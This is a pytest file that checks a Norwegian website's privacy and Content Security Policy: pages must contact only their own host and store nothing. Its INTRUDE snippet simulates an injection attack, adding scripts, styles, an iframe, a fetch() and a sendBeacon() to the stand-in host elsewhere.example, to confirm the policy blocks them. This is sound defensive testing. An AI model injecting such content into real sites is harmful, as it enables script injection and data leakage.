"""Nobody is told that a page was read: every page asks its own host alone, and leaves nothing behind."""

from types import SimpleNamespace

import pytest

EVERY_KIND = [
    "/",
    "/artikler/",
    "/artikler/alt-en-tekst-kan-inneholde/",  # with pictures and a video
    "/artikler/slik-blir-innovasjonsdagen/",
    "/arrangementer/",
    "/arrangementer/arkiv/",
    "/arrangementer/innovasjonsdagen-i-testbyen/",
    "/arrangementer/frokostmote-mars/",
    "/arrangementer/seminar-med-opptak/",
    "/arrangementer/fjernet/",
    "/emner/",
    "/emner/velferdsteknologi/",
    "/serier/",
    "/serier/frokostmote/",
    "/abonner/",
    "/kontakt/",
    "/finnes-ikke/",
    "/seminarer/",  # leads on
]

TELL_OF_THE_POLICY = """addEventListener("securitypolicyviolation", event =>
  console.error(`policy: ${event.effectiveDirective} ${event.blockedURI}`))"""

LEFT_BEHIND = """async () => ({
  cookies: document.cookie,
  local: localStorage.length,
  session: sessionStorage.length,
  databases: (await indexedDB.databases()).length,
  caches: (await caches.keys()).length,
  workers: (await navigator.serviceWorker.getRegistrations()).length,
})"""
NOTHING = {"cookies": "", "local": 0, "session": 0, "databases": 0, "caches": 0, "workers": 0}

USE_ALL = """() => {
  scrollTo(0, document.body.scrollHeight);
  for (const details of document.querySelectorAll("details")) details.open = true;
  for (const button of document.querySelectorAll("main button:not([hidden], .search-field *)")) button.click(); // that one leads to /sok/
}"""

# What a page could do if somebody found a way to write into it.
INTRUDE = """async () => {
  const elsewhere = "https://elsewhere.example/";
  const add = (name, given) => document.body.append(Object.assign(document.createElement(name), given));
  add("script", {textContent: "document.title = 'intruded'"});
  add("script", {src: elsewhere + "x.js"});
  add("style", {textContent: "body { display: none }"});
  add("link", {rel: "stylesheet", href: elsewhere + "x.css"});
  add("img", {src: elsewhere + "x.png"});
  add("iframe", {src: elsewhere});
  add("p", {}), document.body.lastChild.setAttribute("style", "color: red");
  add("video", {src: elsewhere + "x.mp4"});
  await fetch(elsewhere).catch(() => {});
  navigator.sendBeacon(elsewhere, "x");
  await new Promise(done => setTimeout(done, 200));
}"""

pytestmark = pytest.mark.needs("chromium")


@pytest.fixture(scope="module")
def address(serve, golden_site):
    return serve(golden_site)


@pytest.fixture
def visit(browser):
    """A visitor's own browser: its tab, what it asked for, and what it was told."""
    context = browser.new_context()
    context.add_init_script(TELL_OF_THE_POLICY)
    asked, told = [], []
    context.on("request", lambda request: asked.append(request.url))
    context.on("console", lambda message: told.append(message.text))
    context.on("weberror", lambda error: told.append(str(error.error)))
    yield SimpleNamespace(context=context, page=context.new_page(), asked=asked, told=told)
    context.close()


def test_every_page_asks_its_own_host_and_leaves_nothing_behind(visit, address):
    for path in EVERY_KIND:
        visit.page.goto(address + path, wait_until="load")
        visit.page.wait_for_url(lambda url: not url.endswith("/seminarer/"))
        visit.page.evaluate(USE_ALL)
        assert visit.page.evaluate(LEFT_BEHIND) == NOTHING, path
    assert len(visit.asked) > 2 * len(EVERY_KIND)
    assert [url for url in visit.asked if not url.startswith(f"{address}/")] == []
    assert visit.context.cookies() == []
    assert [line for line in visit.told if "404" not in line] == []


def test_the_policy_stops_what_somebody_wrote_into_a_page(visit, address):
    visit.page.goto(address + "/artikler/alt-en-tekst-kan-inneholde/")
    before = [url for url in visit.asked if "elsewhere" in url]
    visit.page.evaluate(INTRUDE)
    stopped = {line.removeprefix("policy: ") for line in visit.told if line.startswith("policy: ")}
    elsewhere = "https://elsewhere.example/"
    assert before == []
    assert "intruded" not in visit.page.title()
    assert visit.page.locator("h1").is_visible()
    assert stopped == {
        "script-src-elem inline",
        f"script-src-elem {elsewhere}x.js",
        "style-src-elem inline",
        f"style-src-elem {elsewhere}x.css",
        "style-src-attr inline",
        f"img-src {elsewhere}x.png",
        "frame-src https://elsewhere.example",
        f"media-src {elsewhere}x.mp4",
        f"connect-src {elsewhere}",
    }
